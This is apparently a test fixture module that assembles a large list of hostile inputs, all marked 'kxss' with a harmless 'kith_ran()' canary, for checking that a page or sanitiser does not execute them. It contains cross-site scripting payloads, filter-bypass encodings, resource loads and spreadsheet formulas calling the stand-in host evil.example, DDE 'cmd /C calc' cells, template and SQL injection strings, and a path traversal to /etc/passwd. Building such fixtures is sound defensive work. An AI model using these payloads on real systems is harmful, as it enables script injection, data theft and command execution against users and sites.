// What somebody could write to make a page do something. Each holds the mark, so that what came of it is found
// again; each that could run calls `kith_ran`. Written for this test from what browsers are known to obey.

export const mark = "kxss";
const ran = "kith_ran()";
const far = "//evil.example/kxss";

const events = ["onload", "onerror", "onclick", "onfocus autofocus tabindex=1 x", "onmouseover", "onanimationstart", "ontoggle open x", "onpointerenter", "onbegin", "onpageshow"];
const holders = ["img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "iframe", "marquee", "object data=x", "audio src=x"];
const ends = ["</textarea>", "</title>", "</style>", "</script>", "</select>", "</noscript>", "</svg>", "</table>", "</a>", "</template>", "-->", "]]>", "?>"];

const tags = holders.flatMap((holder, i) => [
  `<${holder} ${events[i]}=${ran} class=kxss>`,
  `"><${holder} ${events[(i + 3) % events.length]}="${ran}" id=kxss>`,
  `'><${holder} ${events[(i + 5) % events.length]}='${ran}' class=kxss>`,
]);
const breaks = ends.flatMap((end) => [`${end}<script>${ran}//kxss</script>`, `${end}<img src=x onerror=${ran} class=kxss>`]);
const attributes = [
  `" onfocus=${ran} autofocus kxss="`,
  `' onfocus=${ran} autofocus kxss='`,
  "` onfocus=" + ran + " autofocus kxss=`",
  `" style="background:url(${far})" kxss="`,
  `x" formaction="javascript:${ran}" kxss="`,
  `"/**/onclick="${ran}"kxss="`,
];
const addresses = [
  `javascript:${ran}//kxss`,
  `JaVaScRiPt:${ran}//kxss`,
  `java\tscript:${ran}//kxss`,
  `&#106;avascript:${ran}//kxss`,
  `data:text/html,<script>${ran}</script>kxss`,
  `vbscript:${ran}'kxss`,
  `<a href="javascript:${ran}">kxss</a>`,
  `<form action="javascript:${ran}"><button>kxss</button></form>`,
  `[kxss](javascript:${ran})`,
  `<https:${far}>`,
  `https:${far}`,
  `\\\\evil.example\\kxss`,
];
const pictures = [
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${ran}</script><text>kxss</text></svg>`,
  `<svg><a xlink:href="javascript:${ran}"><text>kxss</text></a></svg>`,
  `<svg><set attributeName=href to=javascript:${ran} class=kxss></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${ran}</script>" class=kxss></foreignObject></svg>`,
  `<math><mtext><img src=x onerror=${ran} class=kxss></mtext></math>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#kxss"/></svg>`,
];
const styles = [
  `<style>*{background:url(${far})}</style>`,
  `<style>@import "${far}";</style>`,
  `<link rel=stylesheet href=${far}>`,
  `<div style="position:fixed;inset:0" class=kxss>`,
  `}*{background:url(${far})}/*kxss*/`,
  `expression(${ran})/*kxss*/`,
];
const elsewhere = [
  `<meta http-equiv=refresh content="0;url=${far}">`,
  `<base href=${far}>`,
  `<script src=${far}></script>`,
  `<iframe src=${far}></iframe>`,
  `<embed src=${far}>`,
  `<form action=${far}><input name=csrf><button>kxss`,
  `<input type=hidden name=csrf value=kxss>`,
  `<portal src=${far}></portal>`,
];
const templates = [
  "{{constructor.constructor('kith_ran()')()}}kxss",
  "${kith_ran()}kxss",
  "<%= kith_ran() %>kxss",
  "#{kith_ran()}kxss",
  "{{7*7}}kxss",
  "{%kxss%}",
  "__proto__ kxss",
  "%s%n%x kxss",
  "../../../../etc/passwd kxss",
  "' or '1'='1' -- kxss",
  "<!--#exec cmd=\"kxss\"-->",
  "<?php kith_ran(); ?>kxss",
];
/** Cells that a spreadsheet would work out. */
export const formulas = [
  '=HYPERLINK("https://evil.example/kxss","kxss")',
  "=cmd|' /C calc'!A0 kxss",
  "+1+1 kxss",
  "-2+3+cmd|' /C calc'!A0 kxss",
  "@SUM(1+1)*cmd kxss",
  "=1+1 kxss",
  '=IMPORTXML("https://evil.example/kxss","//a")',
  '"=1+1","kxss',
];
const directions = [
  "kxss \u202E gnp.tpircs \u202C end",
  "kxss \u2067 isolated \u2069 end",
  "kxss \u200F\u200E\u2066 marks",
  "kxss \uFEFF\u200B\u200D nothing to see",
  "kx\u0301ss kxss \u{1F469}\u200D\u{1F467}",
  "\uFF1Cscript\uFF1Ekith_ran()\uFF1C/script\uFF1E kxss",
  "\u2028kith_ran()\u2029kxss",
];
const encodings = [
  "&lt;script&gt;kith_ran()&lt;/script&gt;kxss",
  "&#60;script&#62;kith_ran()&#60;/script&#62;kxss",
  "%3Cscript%3Ekith_ran()%3C/script%3Ekxss",
  "\\u003cscript\\u003ekith_ran()\\u003c/script\\u003ekxss",
  "+ADw-script+AD4-kith_ran()+ADw-/script+AD4-kxss",
  "<scr<script>ipt>kith_ran()</scr</script>ipt>kxss",
  "<script\x0ckxss>kith_ran()</script>",
  "<kxss-element onfocus=kith_ran()>",
];

export const hostile = [
  ...tags, ...breaks, ...attributes, ...addresses, ...pictures, ...styles, ...elsewhere, ...templates, ...formulas,
  ...directions, ...encodings,
];
